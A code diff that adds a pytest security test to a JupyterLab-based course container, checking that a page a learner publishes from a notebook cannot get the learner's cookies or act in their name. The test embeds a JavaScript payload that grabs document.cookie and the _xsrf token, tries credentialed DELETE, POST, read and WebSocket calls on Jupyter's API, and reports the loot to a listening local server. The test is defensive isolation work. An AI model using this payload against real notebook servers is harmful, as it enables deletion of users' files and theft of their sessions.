@@ -14,6 +14,7 @@ from typing import Any
 import pytest
 
 import browser
+from mycontainer.lab import course
 from needs import needs_lab, needs_module
 from test_course import TOKEN, Server
 
@@ -106,3 +107,84 @@ def test_nothing_that_a_cell_displays_can_delete_or_overwrite_a_file(tmp_path: P
     assert any("a widget is shown" in text for text in seen["outputs"])
     assert "token" not in seen["address"]
     assert "websocket_ping" not in said
+
+
+SERVES = """
+import http.server, threading, time
+from IPython.display import HTML, display
+from mycontainer import lab
+paths, cookies = [], []
+class Page(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        paths.append(self.path)
+        cookies.append(self.headers.get("Cookie"))
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        self.wfile.write(PAGE.encode())
+    def log_message(self, *_):
+        pass
+threading.Thread(target=http.server.ThreadingHTTPServer(("127.0.0.1", PORT), Page).serve_forever,
+                 daemon=True).start()
+url = lab.publish(PORT).url
+display(HTML(f'<img src="{url}/image"><iframe src="{url}/page"></iframe>'))
+"""
+# What a page can try that has not got the cookie: to have the browser ask in the learner's name.
+PAGE = """<script>(async () => {
+const there = 'http://127.0.0.1:JUPYTER', heard = [];
+const xsrf = (document.cookie.match('_xsrf=([^;]+)') || [])[1] || '';
+const tries = {
+    remove: () => fetch(there + '/api/contents/deleted.ipynb?_xsrf=' + xsrf,
+                        {method: 'DELETE', credentials: 'include'}),
+    form: () => fetch(there + '/api/contents?_xsrf=' + xsrf, {method: 'POST', credentials: 'include',
+                      mode: 'no-cors', body: new URLSearchParams({_xsrf: xsrf, copy_from: 'deleted.ipynb'})}),
+    read: async () => heard.push(await (await fetch(there + '/api/contents',
+                                                    {credentials: 'include'})).text()),
+    socket: () => new Promise((resolve, reject) => {
+        const one = new WebSocket(there.replace('http', 'ws') + '/api/events/subscribe');
+        one.onopen = () => { heard.push('connected'); resolve(); };
+        one.onerror = reject;
+    }),
+};
+for (const name in tries) { try { await tries[name](); } catch (error) {} }
+fetch('/report?' + encodeURIComponent(document.cookie + '|' + heard.join('|')));
+})()</script>"""
+TELLS = """
+deadline = time.monotonic() + 30
+while not any(path.startswith("/report") for path in paths) and time.monotonic() < deadline:
+    time.sleep(.1)
+time.sleep(.5)
+print("told", sorted({path.partition("?")[0] for path in paths}), [path for path in paths if "?" in path],
+      {cookie for cookie in cookies if cookie})
+"""
+
+
+@needs_lab
+@needs_module("jupyterlab")
+@needs_module("playwright")
+@pytest.mark.skipif(not browser.CHROMIUM, reason="needs the program chromium")
+@pytest.mark.parametrize("address", ["", pytest.param("127.0.0.1", marks=pytest.mark.soak)])
+def test_a_page_from_the_lab_has_nothing_of_the_learners(
+    address: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """At JupyterLab's own address the browser would give its cookies away, whatever the port."""
+    if address:
+        monkeypatch.setenv("MYCONTAINER_PUBLISH_ADDRESS", address)
+    server = Server(tmp_path)
+    workspace = tmp_path / "workspace"
+    try:
+        server.wait_until_up()
+        port = course.free_port(18000 + os.getpid() % 1000)
+        page = PAGE.replace("JUPYTER", str(server.port))
+        serves = SERVES.replace("PAGE.", f"{page!r}.").replace("PORT", str(port))
+        (workspace / "serving.ipynb").write_text(notebook(serves, TELLS))
+        (workspace / "deleted.ipynb").write_text(notebook("'three years of work'"))
+        seen = run_all(server, "serving.ipynb", "told")
+    finally:
+        server.stop()
+    told = next(text for text in seen["outputs"] if text.startswith("told"))
+    assert "['/image', '/page', '/report']" in told
+    assert ("username-127-0-0-1" in told) is bool(address), told
+    assert told.endswith("['/report?%7C'] set()\n") is not bool(address), told
+    assert "three years of work" in (workspace / "deleted.ipynb").read_text()
+    assert not list(workspace.glob("*-Copy*"))
